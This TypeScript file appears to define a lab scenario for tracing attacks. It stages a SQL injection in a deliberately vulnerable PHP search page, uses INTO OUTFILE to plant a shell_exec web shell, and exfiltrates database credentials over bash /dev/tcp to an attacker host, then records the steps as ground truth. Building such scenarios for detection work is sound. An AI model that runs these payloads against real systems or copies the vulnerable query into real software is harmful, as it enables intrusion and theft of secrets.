/**
 * A search page puts what is asked for into its query. An attacker has the database write a page of PHP into the
 * folder of exports, and then runs commands by that page. Exports are written there all the time.
 */
import { appendFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Scenario } from '../scenario.ts';
import {
  app,
  get,
  portalPackages,
  portalVisits,
  portalWith,
  requestSteps,
  servedBy,
  web,
} from '../service/portal.ts';
import { attacker, client } from '../stage.ts';
import type { RequestPlace } from '../truth.ts';

const place = `${attacker}:4444`;
const search = `<?php
require __DIR__ . '/database.php';
require __DIR__ . '/layout.php';
$rows = '';
try {
    $found = database()->query("SELECT name FROM users WHERE name LIKE '%{$_GET['q']}%'");
    if ($found instanceof mysqli_result) {
        foreach ($found as $row) {
            $rows .= '<li>' . htmlspecialchars($row['name']);
        }
    }
} catch (mysqli_sql_exception $problem) {
    error_log('search: ' . $problem->getMessage());
}
page('Found', "<ul>$rows</ul>" . getmypid());
`;
/** The database writes, this page reads. */
const exported = `<?php
require __DIR__ . '/database.php';
$n = (int) $_GET['n'];
database()->query("SELECT name FROM users INTO OUTFILE '/srv/exports/$n.csv'");
readfile("/srv/app/exports/$n.csv");
unlink("/srv/app/exports/$n.csv");
`;
const shell = `<?php echo shell_exec($_GET["c"]); echo getmypid();`;
const theft = `bash -c 'cat /srv/app/pages/database.php >/dev/tcp/${attacker}/4444'`;

export const sqlInjection: Scenario = {
  name: 'sql-injection',
  title: 'a search has the database write a page of PHP, by which a file is sent to the attacker',
  packages: portalPackages,
  hosts: portalWith({
    web: {
      prepare: ({ root }) =>
        appendFileSync(
          join(root, 'etc/apache2/apache2.conf'),
          `ProxyPassMatch ^/exports/([a-z]+\\.php)$ fcgi://${app}:9000/srv/app/exports/$1\n`,
        ),
    },
    app: {
      volumes: { '/srv/app/exports': 'exports' },
      prepare(container) {
        container.write('srv/app/pages/search.php', search);
        container.write('srv/app/pages/export.php', exported);
      },
    },
    db: {
      volumes: { '/srv/exports': 'exports' },
      prepare: ({ root }) =>
        appendFileSync(join(root, 'etc/mysql/schema.sql'), `GRANT FILE ON *.* TO 'portal'@'${app}';\n`),
    },
  }),
  load: {
    visits: [
      ...portalVisits,
      {
        weight: 10,
        requests: [get('/'), get(['/search.php?q=an', '/search.php?q=david', '/search.php?q=x'])],
      },
      { weight: 2, requests: [get('/export.php?n={n}')] },
    ],
  },
  async attack(stage) {
    await stage.outside.listen(attacker, 4444);
    const browser = stage.outside.browser(client);
    await browser.ask(web, 80, { path: '/search.php?q=bertil' });
    const words = `' UNION SELECT '${shell}' INTO OUTFILE '/srv/exports/cache.php' -- `;
    const injection = await browser.ask(web, 80, { path: `/search.php?q=${encodeURIComponent(words)}` });
    const use = await browser.ask(web, 80, { path: `/exports/cache.php?c=${encodeURIComponent(theft)}` });
    const [loot] = await stage.outside.received(attacker, 4444);
    if (!loot?.text.includes('portal-secret')) throw new Error('nothing was stolen');
    const asked = servedBy(injection);
    const query: RequestPlace = { kind: 'request', container: 'db', askedBy: asked };
    return {
      symptom: place,
      also: ['/srv/app/exports/cache.php'],
      rootCause: { kind: 'connection', from: injection.client, to: `${web}:80` },
      steps: [
        ...requestSteps(injection),
        { what: 'it asks the database', at: { kind: 'hop', from: asked, to: query } },
        { what: 'the database runs the query', at: query },
        {
          what: 'the page that the database wrote',
          at: { kind: 'file', path: '/srv/app/exports/cache.php' },
        },
        ...requestSteps(use),
        { what: 'the shell is started', at: { kind: 'process', container: 'app', words: theft } },
        {
          what: 'it reads a file',
          at: { kind: 'process', container: 'app', words: 'cat /srv/app/pages/database.php' },
        },
        { what: 'the file that is stolen', at: { kind: 'file', path: '/srv/app/pages/database.php' } },
        { what: 'the loot is sent away', at: { kind: 'connection', from: app, to: place } },
      ],
    };
  },
};
